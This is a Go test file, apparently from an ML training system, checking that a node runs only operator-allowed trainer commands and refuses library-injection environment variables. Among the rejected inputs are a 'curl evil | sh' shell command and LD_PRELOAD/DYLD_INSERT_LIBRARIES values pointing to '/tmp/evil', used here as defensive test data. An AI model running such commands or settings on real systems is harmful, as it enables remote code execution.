package node

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/schooner-ml/schooner/training"
)

func TestANodeRunsOnlyTheCommandsItsOperatorAllowed(t *testing.T) {
	allowed := []string{"/opt/train/run.sh", "python3 -m my_trainer", "/opt/bin/*"}
	for _, argv := range [][]string{
		{"/opt/train/run.sh"},
		{"/opt/train/run.sh", "--config", "x.toml"},
		{"python3", "-m", "my_trainer", "--lr", "3e-4"},
		{"/opt/bin/trainer"},
	} {
		assert.NoError(t, checkCommand(argv, nil, allowed), "%q", argv)
	}
	for _, argv := range [][]string{
		{"/bin/sh", "-c", "curl evil | sh"},
		{"python3", "-c", "import os"},
		{"python3", "-m", "other"},
		{"python3"},
		{"/opt/train/run.sh.bak"},
		{"/opt/bin/sub/x"},
		{},
	} {
		err := checkCommand(argv, nil, allowed)
		assert.ErrorIs(t, err, ErrBadAssignment, "%q", argv)
	}
	err := checkCommand([]string{"/opt/train/run.sh"}, nil, nil)
	assert.ErrorContains(t, err, "--allow-command")
	for _, name := range []string{"PATH", "LD_PRELOAD", "ld_library_path", "DYLD_INSERT_LIBRARIES"} {
		err := checkCommand([]string{"/opt/train/run.sh"}, map[string]string{name: "/tmp/evil"}, allowed)
		assert.True(t, errors.Is(err, ErrBadAssignment), name)
		assert.ErrorContains(t, err, name)
	}
	assert.NoError(t, checkCommand([]string{"/opt/train/run.sh"}, map[string]string{"PYTHONUNBUFFERED": "1"}, allowed))
}

func TestACommandTrainerTheNodeDoesNotAllowNeverStarts(t *testing.T) {
	s := newSupervisor(t, nil)
	marker := filepath.Join(t.TempDir(), "ran")
	a := oneStage("file://"+t.TempDir(), 2, 10)
	a.Trainer = training.Trainer{Kind: training.TrainerCommand, Command: []string{"/bin/sh", "-c", "touch " + marker}}
	_, err := s.Run(context.Background(), a, nil)
	require.ErrorIs(t, err, ErrBadAssignment)
	assert.ErrorContains(t, err, "allows none")
	s.AllowedCommands = []string{"/opt/train/run.sh"}
	_, err = s.Run(context.Background(), a, nil)
	assert.ErrorContains(t, err, "is not among the commands this node allows")
	_, statErr := os.Stat(marker)
	assert.True(t, os.IsNotExist(statErr), "the refused command ran")
}
